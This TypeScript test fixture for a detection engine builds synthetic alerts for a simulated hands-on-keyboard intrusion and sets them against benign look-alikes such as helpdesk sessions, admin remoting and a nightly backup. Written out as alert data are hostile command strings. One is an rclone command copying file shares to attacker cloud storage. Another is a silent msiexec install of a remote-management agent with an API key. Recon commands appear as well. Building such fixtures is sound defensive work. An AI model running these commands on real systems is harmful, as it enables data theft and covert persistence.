// A hand-built version of the seed's intrusion chain, as alerts: one function writes the alerts an
// intrusion raises, so tests can plant several (sharing the domain controller, the file server,
// common binaries, the same C2 and the same side-loaded DLL) beside benign look-alikes.
import type { Alert } from '../../src/detect/model.js';
import { alert, at } from './alerts.js';

export interface Victim {
  readonly upn: string;
  readonly oid: string;
  readonly sid: string;
  readonly name: string;
  readonly device: string;
}

export const SYSTEM_SID = 'S-1-5-18';
export const DLL_HASH = 'aa'.repeat(32);
export const RCLONE_HASH = 'bb'.repeat(32);
export const MSIEXEC_HASH = 'cc'.repeat(32);
export const QUICKASSIST_HASH = 'dd'.repeat(32);
export const C2_IP = '203.0.113.50';

export function victim(n: number): Victim {
  return {
    upn: `user${n}@contoso.com`, oid: `00000000-0000-0000-0000-00000000000${n}`, sid: `S-1-5-21-1111-2222-3333-${1100 + n}`,
    name: `user${n}`, device: `ws-000${n}.corp.contoso.com`,
  };
}

/**
 * The alerts of one intrusion starting at `t0`: Teams contact (no device), Quick Assist + shell,
 * recon, side-load, registry, C2 (device only, no user), WinRM to dc01 and fs01, the RMM agent
 * installed by SYSTEM on ws, fs01 and dc01 (no user of their own), and rclone on fs01 by SYSTEM
 * `exfilAfter` minutes later.
 */
export function intrusion(p: string, v: Victim, t0: string, exfilAfter = 300): Alert[] {
  const user = { userUpn: v.upn, userObjectId: v.oid, userSid: v.sid };
  const key = `${p}KEY${p}`;
  return [
    alert({ id: `${p}-teams`, at: t0, stages: [1], tactics: ['InitialAccess'], severity: 'medium', title: 'Teams chat from an external helpdesk-like persona',
      e: { userUpn: v.upn, userObjectId: v.oid, teamsThread: `19:${p}thread@unq.gbl.spaces` }, table: 'MessageEvents' }),
    alert({ id: `${p}-qa`, at: at(t0, 8), stages: [2], tactics: ['Execution'], severity: 'medium', title: 'Suspicious activity using Quick Assist',
      e: { device: v.device, ...user, process: 'cmd.exe', fileHash: QUICKASSIST_HASH } }),
    alert({ id: `${p}-recon`, at: at(t0, 9), stages: [3], tactics: ['Discovery'], severity: 'low', title: 'Reconnaissance burst',
      e: { device: v.device, userSid: v.sid, process: ['whoami /all', 'net group "domain admins" /domain'] } }),
    alert({ id: `${p}-sideload`, at: at(t0, 12), stages: [4], tactics: ['DefenseEvasion'], severity: 'high', title: 'An executable file loaded an unexpected DLL file',
      e: { device: v.device, userSid: v.sid, file: 'C:\\ProgramData\\Adobe\\ARM\\msi.dll', fileHash: DLL_HASH }, table: 'DeviceImageLoadEvents' }),
    alert({ id: `${p}-registry`, at: at(t0, 13), stages: [5], tactics: ['Persistence'], severity: 'medium', title: 'Large encoded registry value',
      e: { device: v.device, userSid: v.sid, registryValue: `HKEY_CURRENT_USER\\${v.sid}\\SOFTWARE\\Classes\\Local Settings\\Software\\Microsoft\\UCID` }, table: 'DeviceRegistryEvents' }),
    alert({ id: `${p}-c2`, at: at(t0, 15), minutes: 60, stages: [6], tactics: ['CommandAndControl'], severity: 'medium', title: 'Beacon to an API gateway',
      e: { device: v.device, ip: C2_IP, url: `https://${p}abc.execute-api.us-east-1.amazonaws.com/` }, table: 'DeviceNetworkEvents' }),
    alert({ id: `${p}-winrm`, at: at(t0, 25), stages: [7], tactics: ['LateralMovement'], severity: 'high', title: 'WinRM from a remote-assistance session',
      e: { device: [v.device, 'dc01.corp.contoso.com', 'fs01.corp.contoso.com'], ...user, ip: ['10.0.0.10', '10.0.0.20'], url: 'http://dc01.corp.contoso.com:5985/wsman' },
      on: [v.device], table: 'DeviceNetworkEvents' }),
    ...[v.device, 'fs01.corp.contoso.com', 'dc01.corp.contoso.com'].map((d, i) => alert({
      id: `${p}-rmm${i}`, at: at(t0, 40 + i), stages: [8], tactics: ['Persistence'], severity: 'medium', title: 'RMM agent installed with msiexec',
      e: { device: d, userSid: SYSTEM_SID, userName: 'system', process: `msiexec.exe /i C:\\Windows\\Temp\\level.msi LEVEL_API_KEY=${key} /qn`, fileHash: MSIEXEC_HASH },
    })),
    alert({ id: `${p}-exfil`, at: at(t0, exfilAfter), minutes: 20, stages: [9], tactics: ['Exfiltration'], severity: 'high', title: 'Rclone copying to cloud storage',
      e: { device: 'fs01.corp.contoso.com', userSid: SYSTEM_SID, userName: 'system', fileHash: RCLONE_HASH, file: 'C:\\ProgramData\\rc\\rclone.exe',
        process: `rclone.exe copy "D:\\Shares" ${p}remote: --max-age=3y`, url: `${p}bucket.r2.cloudflarestorage.com` } }),
  ];
}

/** A helpdesk technician helping a user with Quick Assist: both in one alert, on the user's device. */
export function helpdesk(p: string, technician: Victim, user: Victim, t: string): Alert[] {
  return [
    alert({ id: `${p}-qa`, at: t, stages: [2], tactics: ['Execution'], severity: 'low', title: 'Suspicious activity using Quick Assist',
      e: { device: user.device, userUpn: [technician.upn, user.upn], process: 'ipconfig /all', fileHash: QUICKASSIST_HASH } }),
    alert({ id: `${p}-recon`, at: at(t, 2), stages: [3], tactics: ['Discovery'], severity: 'informational', title: 'Reconnaissance burst',
      e: { device: user.device, userSid: user.sid, userUpn: user.upn, process: 'ipconfig /all' } }),
  ];
}

/** An admin's PowerShell remoting to the domain controller and the file server. */
export function adminWinrm(p: string, admin: Victim, t: string): Alert[] {
  return [alert({ id: `${p}-winrm`, at: t, stages: [7], tactics: ['LateralMovement'], severity: 'low', title: 'WinRM to domain controllers',
    e: { device: [admin.device, 'dc01.corp.contoso.com', 'fs01.corp.contoso.com'], userSid: admin.sid, userUpn: admin.upn, ip: ['10.0.0.10', '10.0.0.20'] }, on: [admin.device] })];
}

/** The nightly backup: rclone on the file server by the backup account. */
export function backup(p: string, t: string): Alert[] {
  return [alert({ id: `${p}-backup`, at: t, minutes: 30, stages: [9], tactics: ['Exfiltration'], severity: 'low', title: 'Rclone copying to cloud storage',
    e: { device: 'fs01.corp.contoso.com', userSid: 'S-1-5-21-1111-2222-3333-5001', userName: 'svc-backup', fileHash: RCLONE_HASH,
      file: 'C:\\Program Files\\rclone\\rclone.exe', process: 'rclone.exe sync "D:\\Shares" b2:backup --fast-list', url: 'api.backblazeb2.com' } })];
}
